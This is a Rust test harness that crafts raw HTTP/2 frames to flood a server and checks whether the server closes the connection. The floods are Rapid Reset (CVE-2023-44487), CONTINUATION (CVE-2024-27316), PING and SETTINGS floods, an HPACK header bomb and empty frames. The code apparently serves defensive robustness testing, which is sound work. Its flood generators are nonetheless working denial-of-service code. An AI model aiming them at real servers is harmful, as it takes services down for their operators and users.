//! HTTP/2 by hand, frame by frame: what a client sends that wants to tire a server, and how the server takes it.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Result;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// How long a server may take to end a connection that floods it.
const PATIENCE: Duration = Duration::from_secs(20);

/// A way to tire a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Flood {
    /// Requests that are taken back at once (CVE-2023-44487).
    RapidReset,
    /// Questions for a sign of life whose answers nobody reads.
    Pings,
    /// Settings whose acknowledgements nobody reads.
    Settings,
    /// A head that never ends (CVE-2024-27316).
    Continuation,
    /// One head that unpacks to far more than it is.
    HeaderBomb,
    /// Frames without anything in them.
    Empty,
}

impl Ending {
    /// Whether the server has had enough: it said good-bye, or took no more.
    pub const fn is_ended(&self) -> bool {
        self.is_cut_off || self.goodbyes > 0
    }
}

impl Flood {
    /// Every one.
    pub const ALL: [Self; 6] =
        [Self::RapidReset, Self::Pings, Self::Settings, Self::Continuation, Self::HeaderBomb, Self::Empty];
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("frames of a test are short").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// `GET /v1/time` in the static table's words, without compression.
fn small_head() -> Vec<u8> {
    let literal = |index: u8, value: &[u8]| [&[index, u8::try_from(value.len()).expect("short")][..], value].concat();
    // 2: GET; 6: http; 4 and 1 with values of their own: path, authority.
    [vec![0x82, 0x86], literal(0x04, b"/v1/time"), literal(0x01, b"x")].concat()
}

/// A head whose first field is put into the table and then named again very often.
fn bomb() -> Vec<u8> {
    let value = [b'a'; 120];
    let first = [&[0x40, 1, b'x', 120][..], &value].concat();
    [small_head(), first, vec![0xbe; 12_000]].concat()
}

/// What a flood has come to.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Ending {
    /// Whether the server ended the connection before the flood was over.
    pub is_cut_off: bool,
    /// Frames that say good-bye.
    pub goodbyes: usize,
    /// Bytes that the server sent.
    pub answered_bytes: usize,
}

/// Sends `count` of a kind over one connection; reads what comes only where `reads`.
pub async fn send(address: SocketAddr, flood: Flood, count: u32, reads: bool) -> Result<Ending> {
    let (mut reading, mut writing) = TcpStream::connect(address).await?.into_split();
    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
    let mut n = 0;
    let writer = tokio::spawn(async move {
        loop {
            if writing.write_all(&bytes).await.is_err() {
                return true;
            }
            if n >= count {
                return false;
            }
            bytes.clear();
            for _ in 0..100.min(count - n) {
                put(flood, n, &mut bytes);
                n += 1;
            }
        }
    });
    let mut said = Vec::new();
    if reads {
        // Ends with the connection; a server that bears it all is left when everything was sent and answered.
        let _ = tokio::time::timeout(PATIENCE / 4, listen(&mut reading, &mut said)).await;
    }
    let is_cut_off = match tokio::time::timeout(PATIENCE, writer).await {
        Ok(ended) => ended?,
        // The server takes no more bytes: it waits until its own are read. That is a bound as well.
        Err(_) => false,
    };
    let goodbyes = frames(&said).filter(|kind| *kind == GOAWAY).count();
    Ok(Ending { is_cut_off, goodbyes, answered_bytes: said.len() })
}

/// Takes what comes until nothing can come any more.
async fn listen(reading: &mut OwnedReadHalf, said: &mut Vec<u8>) {
    while let Ok(1..) = reading.read_buf(said).await {}
}

fn put(flood: Flood, n: u32, bytes: &mut Vec<u8>) {
    let stream = 2 * n + 1;
    match flood {
        Flood::RapidReset => {
            bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &small_head()));
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        }
        Flood::Pings => bytes.extend(frame(PING, 0, 0, &[7; 8])),
        Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100])),
        Flood::Continuation if n == 0 => bytes.extend(frame(HEADERS, END_STREAM, 1, &small_head())),
        Flood::Continuation => {
            bytes.extend(frame(CONTINUATION, 0, 1, &[&[0, 1, b'x', 100][..], &[b'a'; 100]].concat()));
        }
        Flood::HeaderBomb => bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &bomb())),
        Flood::Empty if n == 0 => bytes.extend(frame(HEADERS, END_HEADERS, 1, &small_head())),
        Flood::Empty => bytes.extend(frame(0, 0, 1, &[])),
    }
}

/// The kinds of the whole frames in `bytes`.
fn frames(mut bytes: &[u8]) -> impl Iterator<Item = u8> {
    std::iter::from_fn(move || {
        let head = bytes.first_chunk::<9>()?;
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]);
        let end = 9 + usize::try_from(length).ok()?;
        bytes = bytes.get(end..)?;
        Some(head[3])
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_written_as_they_are_read() {
        let bytes = [frame(SETTINGS, 0, 0, &[]), frame(GOAWAY, 0, 0, &[0; 8]), vec![0, 0]].concat();
        assert_eq!(frames(&bytes).collect::<Vec<_>>(), [SETTINGS, GOAWAY]);
    }
}
